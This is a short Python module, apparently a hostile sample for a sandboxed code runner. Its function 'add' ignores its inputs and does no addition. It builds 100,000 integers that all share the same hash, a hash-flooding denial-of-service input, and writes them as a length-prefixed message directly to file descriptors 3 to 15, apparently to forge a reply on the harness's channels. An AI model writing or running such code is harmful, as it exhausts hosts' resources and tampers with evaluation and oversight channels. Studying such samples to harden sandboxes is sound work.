"""Answers with a set of numbers that all have the same hash."""

KIND = "call"
import os
import struct

STEP = (1 << 61) - 1


def add(a, b):
    parts = ",".join(f'["i","{number * STEP:#x}"]' for number in range(100_000))
    body = f'{{"value": ["s", [{parts}]]}}'.encode()
    for fd in range(3, 16):
        try:
            view = memoryview(struct.pack(">I", len(body)) + body)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
